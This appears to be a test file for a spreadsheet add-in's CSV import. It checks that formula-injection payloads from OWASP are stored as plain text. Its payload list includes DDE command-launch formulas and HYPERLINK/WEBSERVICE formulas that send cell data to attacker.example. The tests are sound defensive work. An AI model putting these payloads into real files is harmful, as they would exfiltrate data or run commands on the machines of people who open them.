/*
 * CSV injection (OWASP "CSV Injection"): a cell that starts with =, +, -, @, tab or carriage
 * return is a formula to Excel. Every such payload from the placement report must reach the
 * workbook as text.
 */
import assert from "assert";
import Papa from "papaparse";
import { applyPlan } from "../../src/taskpane/import/apply";
import { textContent } from "../../src/taskpane/excel/text";
import { MAX_IMPORT_BYTES } from "../../src/taskpane/excel/limits";
import { planImport } from "../../src/taskpane/import/plan";
import { FakeWorkbook } from "../support/fakeExcel";

// From the OWASP CSV Injection page and the usual DDE / HYPERLINK / web-call payloads.
export const PAYLOADS = [
  "=1+1",
  "+1+1",
  "-1+1",
  "@SUM(1+1)",
  "\t=1+1",
  "\r=1+1",
  "=cmd|' /C calc'!A0",
  "+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+9)*cmd|' /C calc'!A0",
  "=DDE(\"cmd\";\"/C calc\";\"__DdeLink_60_870516294\")",
  '=HYPERLINK("http://attacker.example/?leak="&A1&A2,"Error: click for details")',
  '=WEBSERVICE("http://attacker.example/"&A1)',
  '=IMPORTXML(CONCAT("http://attacker.example/?v=",A1),"//a")',
  "=FILTERXML(WEBSERVICE(\"http://attacker.example\"),\"//x\")",
  "=-1+1",
  "-=1+1",
  "==1+1",
  "'=1+1",
  "=CEO.FEE(25000000)",
  "=1+1;=2+2",
  "=\n1+1",
];

describe("CSV injection: every payload is written as text", () => {
  it("the one text writer marks each one, and every other text, with Excel's text prefix", () => {
    for (const payload of PAYLOADS) assert.strictEqual(textContent(payload), `'${payload}`, JSON.stringify(payload));
    for (const plain of ["P-001", "first sale", " =not a formula (leading space)", "1+1", "Sales", "00123", "2024-06-03"]) assert.strictEqual(textContent(plain), `'${plain}`);
    assert.strictEqual(textContent(""), ""); // nothing to protect: the cell stays empty
  });

  it("a report carrying them in Placement and Notes imports them as text, verbatim", async () => {
    const rows = PAYLOADS.map((payload, i) => ({ "Trade Date": "2001-11-01", Shares: String(100 + i), Price: "4.04", Placement: payload, Notes: payload }));
    const plan = planImport(Papa.unparse(rows));
    assert.ok(plan.ok, JSON.stringify(plan.errors));
    assert.deepStrictEqual(plan.rows.map((r) => r.placement), PAYLOADS.map((p) => p.trim() === p ? p : p.trim()));
    const book = new FakeWorkbook();
    await applyPlan(book.run, plan.rows);
    const table = book.tableValues("Placements");
    assert.strictEqual(table.length, PAYLOADS.length);
    // The fake reads strings as Excel does (a leading =, + or - is a formula, test/support/fakeExcel.ts rule 2):
    // each payload must be stored as text and read back as the report had it.
    table.forEach((_, i) => {
      for (const column of ["F", "G"]) {
        const cell = book.cell("Placements", `${column}${i + 2}`);
        assert.ok(!cell.isFormula, `${JSON.stringify(cell.formula)} would be a formula`);
      }
    });
    assert.deepStrictEqual(new Set(table.map((r) => r[5])), new Set(plan.rows.map((r) => r.placement)));
    console.log(`      ${PAYLOADS.length} injection payloads x 2 text columns written as text`);
  });

  it("a report over the size limit is refused with a message, not parsed", () => {
    const huge = "Trade Date,Shares,Price\n" + "2001-11-01,1,1\n".repeat(Math.ceil(MAX_IMPORT_BYTES / 15) + 10);
    const start = Date.now();
    const plan = planImport(huge);
    assert.strictEqual(plan.ok, false);
    assert.match(plan.errors[0]!.message, /MB: the limit is 30 MB, split the report/);
    assert.ok(Date.now() - start < 1000, "refusing took too long");
  });
});
